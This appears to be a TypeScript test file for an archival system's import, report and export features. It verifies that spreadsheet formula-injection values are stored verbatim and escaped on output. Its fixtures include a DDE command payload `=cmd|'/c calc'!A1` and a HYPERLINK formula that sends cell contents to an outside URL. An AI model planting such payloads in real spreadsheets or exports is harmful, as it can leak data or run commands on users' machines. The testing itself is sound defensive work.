// Texts that spreadsheet programs would take for formulas: stored as they are, never computed, and harmless in whatever is written for
// spreadsheet programs.
import { read as readWorkbook, utils } from '@e965/xlsx';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, expect, test } from 'vitest';
import type { TestApi } from '../support/api.ts';
import { ok, startTestApi } from '../support/api.ts';
import { runJob } from '../support/api-jobs.ts';
import { hostileZip, workbookParts } from '../support/make/hostile-zip.ts';
import { resourceBody } from '../support/records.ts';
import { csv, runSheetJob, sheetOf } from '../support/sheet-job.ts';

const formulas = ['=HYPERLINK("http://x.org/?"&A1,"open")', `=cmd|'/c calc'!A1`, '+1+1', '-2+3', '@SUM(1,2)'];
let api: TestApi;
let repoId = 0;
let resource = '';
let resourceId = '';
beforeAll(async () => {
  api = await startTestApi();
  repoId = await api.repository();
  resource = await api.create(
    `/repositories/${repoId}/resources`,
    resourceBody('F1', { ead_id: '=F1', title: '=1+1' }),
  );
  resourceId = resource.split('/').at(-1) ?? '';
});
afterAll(async () => api[Symbol.asyncDispose]());

const isFormula = (cell: unknown): boolean =>
  /^[=+\-@\t\r]/.test(String(cell)) && !/^[+-]?\d+(?:\.\d+)?$/.test(String(cell));
const cellsOf = (text: string): readonly string[] => parse(text, { relax_column_count: true }).flat();
const titles = async (uris: readonly string[]): Promise<readonly string[]> =>
  Promise.all(uris.map(async (uri) => String(ok(await api.get(uri)).title)));
const sheetJob = (content_type: string) => ({
  jsonmodel_type: 'bulk_import_job',
  resource_id: resourceId,
  filename: 'f',
  load_type: 'ao',
  content_type,
  format: content_type,
});

test('cells of CSV are stored as they stand', async () => {
  const accessions = await runJob(
    api,
    repoId,
    { jsonmodel_type: 'import_job', import_type: 'accession_csv', filenames: ['f.csv'] },
    {
      file: {
        name: 'f.csv',
        content: csv([['accession_title', 'accession_number_1'], ...formulas.map((formula, n) => [formula, `C${n}`])]),
      },
    },
  );
  expect(accessions.status, accessions.log).toBe('completed');
  expect([...(await titles(accessions.records))].sort()).toEqual([...formulas].sort());
  const rows = formulas.map((title) => ({ ead: '=F1', title, hierarchy: '1', level: 'file' }));
  const loaded = await runSheetJob(api, repoId, csv(sheetOf(rows)), sheetJob('csv'), {
    params: { rid: Number(resourceId) },
  });
  expect(loaded.status, loaded.log).toBe('completed');
  expect([...(await titles(loaded.records.filter((uri) => uri.includes('archival_objects'))))].sort()).toEqual(
    [...formulas].sort(),
  );
  const cells = loaded.reports.flatMap(cellsOf);
  expect(cells).toContain(`'${formulas[0]}`);
  expect(cells.filter(isFormula)).toEqual([]);
});

test('a formula of a workbook gives the value that was saved with it, and nothing is computed', async () => {
  const codes = ['', 'ead', 'title', 'hierarchy', 'level'];
  const line = (cells: readonly string[]): string => `<row>${cells.join('')}</row>`;
  const text = (value: string): string => `<c t="inlineStr"><is><t>${value}</t></is></c>`;
  const sheet = `<worksheet><sheetData>${line([text('Field codes'), ...codes.slice(1).map(text)])}${line([text(''), text('=F1'), '<c t="str"><f>HYPERLINK("http://x.org")</f><v>shown</v></c>', '<c><f>1+1</f><v>1</v></c>', text('file')])}</sheetData></worksheet>`;
  const loaded = await runSheetJob(api, repoId, hostileZip(workbookParts(sheet)), sheetJob('xlsx'), {
    params: { rid: Number(resourceId) },
  });
  expect(loaded.status, loaded.log).toBe('completed');
  expect(await titles(loaded.records.filter((uri) => uri.includes('archival_objects')))).toEqual(['shown']);
});

test('CSV of reports, searches and templates holds none, nor do workbooks', async () => {
  const report = await runJob(api, repoId, {
    jsonmodel_type: 'report_job',
    report_type: 'accession_report',
    format: 'csv',
  });
  const [file] = ok(await api.get(`${report.uri}/output_files`));
  const reported = cellsOf((await api.get(`${report.uri}/output_files/${file}`)).text);
  expect(reported.filter((cell) => cell.includes('HYPERLINK')).length).toBeGreaterThan(0);
  expect(reported.filter(isFormula)).toEqual([]);
  await expect
    .poll(async () => (await api.get(`/repositories/${repoId}/search?page=1&type[]=accession`)).json.total_hits)
    .toBe(formulas.length);
  const found = cellsOf(
    (await api.get(`/repositories/${repoId}/search?page=1&dt=csv&type[]=accession&fields[]=title`)).text,
  );
  expect(found.slice(1).sort()).toEqual(formulas.map((formula) => `'${formula}`).sort());
  const template = cellsOf((await api.get(`${resource}/templates/top_container_creation.csv`)).text);
  expect(template).toContain(`'${formulas[0]}`);
  expect(template.filter(isFormula)).toEqual([]);
  const asBook = await runJob(api, repoId, {
    jsonmodel_type: 'report_job',
    report_type: 'accession_report',
    format: 'xlsx',
  });
  const [bookFile] = ok(await api.get(`${asBook.uri}/output_files`));
  const reply = await fetch(`${api.url}${asBook.uri}/output_files/${bookFile}`, {
    headers: { 'x-service-session': api.session },
  });
  const book = readWorkbook(Buffer.from(await reply.arrayBuffer()));
  const cells = book.SheetNames.flatMap((name) =>
    Object.entries(book.Sheets[name] ?? {})
      .filter(([address]) => !address.startsWith('!'))
      .map(([, cell]) => cell),
  );
  expect(cells.filter((cell) => String(cell.v).startsWith('=')).length).toBeGreaterThan(0);
  expect(cells.filter((cell) => cell.f !== undefined)).toEqual([]);
  expect(utils.sheet_to_json(book.Sheets['Report'] ?? {}).length).toBe(formulas.length);
});

test('what a template marked is read as it was', async () => {
  const template = (await api.get(`${resource}/templates/top_container_creation.csv`)).text;
  const table: string[][] = parse(template, { relax_column_count: true });
  const column = (code: string): number => table[2]?.indexOf(code) ?? -1;
  for (const row of table.slice(4))
    for (const [code, value] of [
      ['instance_type', 'text'],
      ['top_container_type', 'box'],
      ['top_container_indicator', '1'],
    ] as const)
      row[column(code)] = value;
  const linked = await runSheetJob(
    api,
    repoId,
    csv(table),
    {
      jsonmodel_type: 'top_container_linker_job',
      resource_id: resourceId,
      filename: 'f',
      content_type: 'csv',
      load_type: 'x',
    },
    { params: { rid: Number(resourceId) } },
  );
  expect(linked.status, linked.log).toBe('completed');
  expect(linked.log.match(/^Linked: /gm)).toHaveLength(table.length - 4);
});
